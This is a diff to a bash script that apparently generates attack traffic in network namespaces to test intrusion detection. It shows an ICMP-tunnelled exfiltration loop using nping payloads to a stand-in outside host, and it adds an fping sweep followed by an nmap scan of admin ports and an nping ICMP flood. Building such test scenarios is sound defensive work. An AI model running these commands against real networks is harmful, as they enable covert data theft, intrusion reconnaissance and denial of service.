@@ -23,6 +23,9 @@
 #   monitoring_oping    oping to 8 servers every second for 45 s
 #   tracepath_out       tracepath (UDP probes, rising TTL) to an outside host
 #   exfil_nping_data    a file sent out as nping --icmp --data payloads, 500 bytes a probe
+#   fping_then_nmap_ports  fping -a -g over 10.78.0.32/27, then nmap -sT of admin ports on the
+#                       hosts that answered, 20 s later
+#   flood_nping         nping --icmp --rate 1000 -c 5000 at one server
 set -uo pipefail
 sc=$1 out=$2
 x() { ip netns exec "$@"; }
@@ -77,6 +80,12 @@ case $sc in
   exfil_nping_data)
     head -c 30000 /dev/urandom | base64 -w 500 | head -n 60 > /tmp/ih_chunks
     while read -r l; do x ih_atk timeout 2 nping --icmp -c 1 -q --data-string "$l" 203.0.113.7 >/dev/null 2>&1; done < /tmp/ih_chunks ;;
+  fping_then_nmap_ports)
+    x ih_atk timeout 30 fping -q -a -r 0 -g 10.78.0.32/27 > /tmp/ih_alive 2>/dev/null
+    sleep 20
+    x ih_atk timeout 60 nmap -n -Pn -sT -p 22,135,445,3389,5985 $(head -n 8 /tmp/ih_alive) >/dev/null 2>&1 ;;
+  flood_nping)
+    x ih_atk timeout 20 nping --icmp --rate 1000 -c 5000 -q 10.78.0.40 >/dev/null 2>&1 ;;
   *) echo "unknown scenario $sc" >&2; kill "$cap"; exit 2 ;;
 esac
 sleep 2
